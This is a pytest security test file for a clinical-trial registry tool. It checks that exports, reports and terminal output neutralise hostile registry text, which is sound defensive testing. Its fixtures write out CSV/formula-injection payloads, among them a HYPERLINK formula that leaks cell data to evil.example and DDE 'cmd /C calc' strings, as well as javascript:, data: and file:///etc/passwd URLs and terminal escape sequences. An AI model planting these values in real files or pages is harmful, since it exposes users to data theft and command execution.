"""Registry text is untrusted: hostile titles, sponsors and links taken into
real records must come out inert in every output a person opens.

* spreadsheets (``export`` csv/xlsx, ``labels``, report ``tables/*.csv`` and
  ``report.xlsx``): no cell is a formula — checked by opening the xlsx files
  with openpyxl and reading the CSV files with the csv module;
* the report in headless Chromium: no link other than http(s) (or an in-page
  ``#`` anchor);
* the terminal: rich markup in registry text is printed as written.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

import celltrials
from celltrials.analysis.landscape import Filters
from celltrials.export import export_trials
from celltrials.ingest import ingest_paths
from celltrials.report.build import build_report
from celltrials.safety import FORMULA_PREFIXES, safe_cell, safe_url
from tests.conftest import GENERAL_JSON, ICTRP_CSV, REPO, stored_json

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
]
HOSTILE_URLS = [
    "javascript:alert(document.domain)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
]
SPONSOR_TAG = "Azidus Brasil [industry]"
SPONSOR_LEAK = "[red]•[/red] Hostile Pharma"


def _hostile_ictrp(tmp: Path) -> Path:
    """The first rows of the real ICTRP CSV with hostile titles, sponsors and links."""
    with ICTRP_CSV.open(encoding="utf-8-sig", newline="") as fh:
        reader = csv.DictReader(fh)
        fields = list(reader.fieldnames or [])
        rows = [row for _, row in zip(range(len(HOSTILE_TITLES)), reader, strict=False)]
    for i, row in enumerate(rows):
        row["Public title"] = HOSTILE_TITLES[i]
        row["web address"] = HOSTILE_URLS[i]
    rows[0]["Primary sponsor"] = SPONSOR_TAG
    rows[1]["Primary sponsor"] = SPONSOR_LEAK
    rows[2]["Primary sponsor"] = "=cmd|' /C calc'!A0"
    path = tmp / "hostile_ictrp.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        w.writerows(rows)
    return path


def _hostile_json(tmp: Path) -> Path:
    """A real API v2 study with a formula title that also holds a NUL."""
    study = json.loads(GENERAL_JSON.read_bytes())[0]
    ident = study["protocolSection"]["identificationModule"]
    ident["briefTitle"] = "=1+2\x00 NUL inside"
    ident["officialTitle"] = "@official \x1b]0;pwned\x07\x1b[31mred " + ident.get(
        "officialTitle", ""
    )
    path = tmp / "hostile_study.json"
    path.write_text(json.dumps(study), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    db = tmp / "hostile.duckdb"
    with celltrials.open(db) as store:
        report = ingest_paths(store, [_hostile_ictrp(tmp), _hostile_json(tmp)])
        assert report.clean, [str(f) for f in report.findings]
        from celltrials.labelling import classify_store

        classify_store(store)
    yield db


def _formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)  # not read-only: data_type is reliable here
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES)
                ):
                    out.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return out


def _csv_formula_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [
            f"{path.name}: {v!r}"
            for row in csv.reader(fh)
            for v in row
            if v.lstrip(" ").startswith(FORMULA_PREFIXES)
        ]


def test_safe_cell_follows_owasp() -> None:
    for t in [*HOSTILE_TITLES, "＝1+1"]:
        assert safe_cell(t) == "'" + t
    assert safe_cell("Mesenchymal stem cells") == "Mesenchymal stem cells"
    assert safe_cell(12) == 12


def test_safe_url_allows_only_http_and_https() -> None:
    for u in [*HOSTILE_URLS, "//evil.example/x", "https:/nohost", ""]:
        assert safe_url(u) == "", u
    for u in (
        "https://clinicaltrials.gov/study/NCT04315987",
        "http://www.chictr.org.cn/showproj.aspx?proj=49532",
    ):
        assert safe_url(u) == u


def test_stored_urls_are_http_only(hostile_store: Path) -> None:
    with celltrials.open(hostile_store, read_only=True) as store:
        urls = [r[0] for r in store.con.execute("SELECT url FROM records").fetchall()]
        raw_urls = [
            stored_json(r[0]).get("web_address")
            for r in store.con.execute("SELECT raw FROM records WHERE channel = 'ictrp'").fetchall()
        ]
    assert all(u == "" or u.startswith(("http://", "https://")) for u in urls), urls
    assert sorted(raw_urls) == sorted(HOSTILE_URLS)  # the raw text is kept verbatim


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_has_no_formula_cell(hostile_store: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"trials.{fmt}"
    with celltrials.open(hostile_store, read_only=True) as store:
        export_trials(store, fmt, out)
    bad = _formula_cells(out) if fmt == "xlsx" else _csv_formula_cells(out)
    assert bad == []
    if fmt == "xlsx":
        titles = [
            c.value
            for c in next(openpyxl.load_workbook(out).active.iter_cols(min_col=4, max_col=4))
        ]
    else:
        with out.open(encoding="utf-8", newline="") as fh:
            titles = [r["title"] for r in csv.DictReader(fh)]
    for t in (
        HOSTILE_TITLES
    ):  # the text itself survives, neutralised (t.strip(): registry text is trimmed)
        assert "'" + t.strip() in titles
    nul = "\ufffd" if fmt == "xlsx" else "\x00"  # NUL cannot live in xlsx; csv keeps it
    assert "'=1+2" + nul + " NUL inside" in titles
    if fmt == "xlsx":
        head = [c.value for c in next(openpyxl.load_workbook(out).active.iter_rows(max_row=1))]
        assert "cell_type" in head and "is_cell_therapy" in head  # label columns (classify ran)


def test_export_parquet_keeps_text_exactly(hostile_store: Path, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    out = tmp_path / "trials.parquet"
    with celltrials.open(hostile_store, read_only=True) as store:
        export_trials(store, "parquet", out)
    titles = pq.read_table(out).column("title").to_pylist()
    assert {t.strip() for t in HOSTILE_TITLES} <= set(titles)


def test_report_tables_and_workbook_have_no_formula(hostile_store: Path, tmp_path: Path) -> None:
    with celltrials.open(hostile_store, read_only=True) as store:
        result = build_report(store, tmp_path / "rep", Filters(scope="all"), figures=False)
    assert _formula_cells(result.xlsx) == []
    bad = [
        x
        for p in sorted((tmp_path / "rep" / "tables").glob("*.csv"))
        for x in _csv_formula_cells(p)
    ]
    assert bad == []
    with (tmp_path / "rep" / "tables" / "trials.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["title"] for r in rows} >= {"'" + t.strip() for t in HOSTILE_TITLES}
    assert all(r["url"].startswith(("http://", "https://")) for r in rows), [r["url"] for r in rows]


def test_cli_terminal_shows_registry_text_as_written(hostile_store: Path) -> None:
    env = {
        **os.environ,
        "CELLTRIALS_DB": str(hostile_store),
        "COLUMNS": "200",
        "PYTHONPATH": str(REPO / "src"),
    }
    with celltrials.open(hostile_store, read_only=True) as store:
        ids = {
            r[1]: r[0]
            for r in store.con.execute("SELECT trial_id, lead_sponsor FROM trials").fetchall()
        }
    for sponsor in (SPONSOR_TAG, SPONSOR_LEAK):
        out = subprocess.run(
            [sys.executable, "-m", "celltrials", "show", ids[sponsor]],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert out.returncode == 0, out.stderr
        assert sponsor in out.stdout, out.stdout
        assert "Traceback" not in out.stderr


def test_cli_sends_no_terminal_escape_from_registry_text(hostile_store: Path) -> None:
    env = {
        **os.environ,
        "CELLTRIALS_DB": str(hostile_store),
        "COLUMNS": "200",
        "PYTHONPATH": str(REPO / "src"),
    }
    study_id = json.loads(GENERAL_JSON.read_bytes())[0]["protocolSection"]["identificationModule"][
        "nctId"
    ]
    shown = {}
    for cmd in (["show", study_id], ["explain", study_id]):
        out = subprocess.run(
            [sys.executable, "-m", "celltrials", *cmd],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert out.returncode == 0, out.stderr
        assert (
            "\x1b" not in out.stdout and "\x07" not in out.stdout
        )  # stdout is not a TTY: rich adds no colour codes
        shown[cmd[0]] = out.stdout
    assert "pwned" in shown["show"]  # the text itself is shown


browser_mod: Any = None
try:
    import playwright.sync_api as browser_mod
except ImportError:  # pragma: no cover
    browser_mod = None

from tests.chromium import CHROMIUM  # noqa: E402


@pytest.mark.skipif(
    browser_mod is None or not CHROMIUM.exists(), reason="needs Playwright and /usr/bin/chromium"
)
def test_report_in_chromium_has_only_http_links(hostile_store: Path, tmp_path: Path) -> None:
    with celltrials.open(hostile_store, read_only=True) as store:
        result = build_report(store, tmp_path / "rep", Filters(scope="all"), figures=False)
    with browser_mod.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"])
        try:
            page = b.new_page()
            dialogs: list[str] = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(result.html.as_uri())
            page.click(".card .big button.count")  # headline: every trial of the report
            page.wait_for_selector("#tl-items li")
            if page.is_visible("#tl-more"):
                page.click("#tl-more")
            n_items = page.eval_on_selector_all("#tl-items li", "els => els.length")
            hrefs = page.eval_on_selector_all(
                "a[href]", "els => els.map(e => e.getAttribute('href'))"
            )
            texts = page.eval_on_selector_all("#tl-items li", "els => els.map(e => e.textContent)")
            # follow every list link's resolved target too: the browser's view, not ours
            resolved = page.eval_on_selector_all("#tl-items a", "els => els.map(e => e.href)")
        finally:
            b.close()
    assert n_items == result.n_trials
    bad = [h for h in hrefs if not (h.startswith(("http://", "https://", "#")))]
    assert bad == []
    assert all(r == "" or r.startswith(("http://", "https://")) for r in resolved), resolved
    assert any(HOSTILE_TITLES[0] in t for t in texts)  # shown as text, not dropped
    assert dialogs == []


def test_labels_csv_has_no_formula(hostile_store: Path, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from celltrials.cli import cli

    out = tmp_path / "new-folder" / "labels.csv"  # a missing folder is created
    res = CliRunner().invoke(cli, ["--db", str(hostile_store), "labels", "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert _csv_formula_cells(out) == []
    assert io.StringIO(out.read_text(encoding="utf-8")).readline().startswith("registry_id,")
